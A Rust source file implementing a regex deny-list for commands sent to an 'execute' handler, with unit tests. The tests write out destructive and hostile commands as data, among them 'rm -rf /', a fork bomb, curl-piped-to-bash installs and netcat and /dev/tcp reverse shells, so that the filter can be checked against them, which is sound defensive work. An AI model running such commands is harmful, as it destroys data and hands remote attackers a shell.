//! Command deny-list for `execute` messages.
//!
//! This is a pattern heuristic, not isolation: anything typed as raw `input`
//! bypasses it, and a determined user can always spell a command differently.
//! Rules are evaluated in order and the first match wins.

use crate::error::{BridgeError, BridgeResult};
use regex::Regex;

/// Built-in rules as `(pattern, reason)`.
const BUILTIN_RULES: &[(&str, &str)] = &[
    (
        r"\brm\s+(?:-\S+\s+)*(?:-[a-zA-Z]*[rR][a-zA-Z]*|--recursive)\s+(?:-\S+\s+)*/(?:\*|\s|;|&|\||$)",
        "recursive deletion of the root filesystem",
    ),
    (
        r"\bdd\s+.*\bof=/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|mapper/|loop)",
        "raw write to a block device",
    ),
    (
        r":\s*\(\s*\)\s*\{.*:\s*\|\s*:.*\}\s*;\s*:",
        "fork bomb",
    ),
    (
        r"\b(?:mkfs(?:\.[a-zA-Z0-9]+)?|mke2fs)\b",
        "filesystem formatting",
    ),
    (
        r"\bch(?:mod|own|grp)\s+(?:-\S+\s+)*(?:-[a-zA-Z]*R[a-zA-Z]*|--recursive)\s+(?:-\S+\s+)*(?:\S+\s+)?/(?:\*|\s|;|&|\||$)",
        "recursive permission change on the root filesystem",
    ),
    (
        r"\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da|k|fi)?sh\b",
        "piping a downloaded script into a shell",
    ),
    (
        r"\b(?:nc|ncat|netcat)\b[^|;&]*\s-[a-zA-Z]*[ec]\b",
        "reverse shell via netcat",
    ),
    (
        r"/dev/(?:tcp|udp)/",
        "reverse shell via /dev/tcp",
    ),
];

/// Outcome of [`CommandFilter::check`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FilterVerdict {
    pub blocked: bool,
    pub reason: Option<String>,
}

impl FilterVerdict {
    fn allowed() -> Self {
        Self {
            blocked: false,
            reason: None,
        }
    }

    fn blocked(reason: &str) -> Self {
        Self {
            blocked: true,
            reason: Some(reason.to_string()),
        }
    }
}

#[derive(Debug)]
struct DenyRule {
    pattern: Regex,
    reason: String,
}

/// Ordered list of compiled deny rules.
#[derive(Debug)]
pub struct CommandFilter {
    rules: Vec<DenyRule>,
}

impl Default for CommandFilter {
    fn default() -> Self {
        Self {
            rules: builtin_rules(),
        }
    }
}

impl CommandFilter {
    /// Built-in rules followed by operator-supplied patterns.
    ///
    /// Fails if any extra pattern does not compile.
    pub fn with_extra_patterns(extra: &[String]) -> BridgeResult<Self> {
        let mut rules = builtin_rules();
        for pattern in extra {
            let compiled = Regex::new(pattern).map_err(|e| {
                BridgeError::Config(format!("invalid deny pattern {pattern:?}: {e}"))
            })?;
            rules.push(DenyRule {
                pattern: compiled,
                reason: format!("matches deny pattern {pattern:?}"),
            });
        }
        Ok(Self { rules })
    }

    /// Classify a command line.
    pub fn check(&self, command: &str) -> FilterVerdict {
        self.rules
            .iter()
            .find(|rule| rule.pattern.is_match(command))
            .map(|rule| FilterVerdict::blocked(&rule.reason))
            .unwrap_or_else(FilterVerdict::allowed)
    }

    pub fn rule_count(&self) -> usize {
        self.rules.len()
    }
}

fn builtin_rules() -> Vec<DenyRule> {
    BUILTIN_RULES
        .iter()
        .map(|(pattern, reason)| DenyRule {
            pattern: Regex::new(pattern).expect("built-in deny pattern compiles"),
            reason: (*reason).to_string(),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blocked(cmd: &str) -> bool {
        CommandFilter::default().check(cmd).blocked
    }

    #[test]
    fn blocks_dangerous_commands() {
        for cmd in [
            "rm -rf /",
            "dd if=/dev/zero of=/dev/sda",
            ":(){ :|:& };:",
            "mkfs.ext4 /dev/sda1",
            "chmod -R 777 /",
            "wget http://x/y.sh | bash",
            "curl http://x/y.sh | bash",
            "nc -e /bin/sh host 4444",
        ] {
            assert!(blocked(cmd), "expected {cmd:?} to be blocked");
        }
    }

    #[test]
    fn allows_everyday_commands() {
        for cmd in ["ls -la", "git status", "npm test", "cat file.txt"] {
            assert!(!blocked(cmd), "expected {cmd:?} to be allowed");
        }
    }

    #[test]
    fn rm_variants() {
        assert!(blocked("sudo rm -rf /"));
        assert!(blocked("rm -fr /*"));
        assert!(blocked("rm -r -f /"));
        assert!(blocked("rm --recursive --force /"));
        assert!(!blocked("rm -rf ./build"));
        assert!(!blocked("rm -rf /tmp/scratch"));
        assert!(!blocked("rm file.txt"));
    }

    #[test]
    fn dd_to_regular_file_is_allowed() {
        assert!(!blocked("dd if=/dev/zero of=./disk.img bs=1M count=10"));
        assert!(blocked("dd if=image.iso of=/dev/nvme0n1 bs=4M"));
    }

    #[test]
    fn pipe_to_shell_variants() {
        assert!(blocked("curl -fsSL https://example.com/install.sh | sudo bash"));
        assert!(blocked("wget -qO- http://x/y | sh"));
        assert!(!blocked("curl https://example.com/data.json | jq ."));
    }

    #[test]
    fn reverse_shell_variants() {
        assert!(blocked("ncat -c bash 10.0.0.1 9001"));
        assert!(blocked("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"));
        assert!(!blocked("nc -zv localhost 8080"));
    }

    #[test]
    fn verdict_carries_reason() {
        let verdict = CommandFilter::default().check("mkfs.ext4 /dev/sda1");
        assert!(verdict.blocked);
        assert_eq!(verdict.reason.as_deref(), Some("filesystem formatting"));
        assert_eq!(CommandFilter::default().check("ls").reason, None);
    }

    #[test]
    fn extra_patterns_are_appended() {
        let filter =
            CommandFilter::with_extra_patterns(&[r"\bshutdown\b".to_string()]).unwrap();
        assert_eq!(filter.rule_count(), CommandFilter::default().rule_count() + 1);
        assert!(filter.check("sudo shutdown -h now").blocked);
    }

    #[test]
    fn invalid_extra_pattern_is_config_error() {
        let err = CommandFilter::with_extra_patterns(&["(".to_string()]).unwrap_err();
        assert!(matches!(err, BridgeError::Config(_)));
    }
}
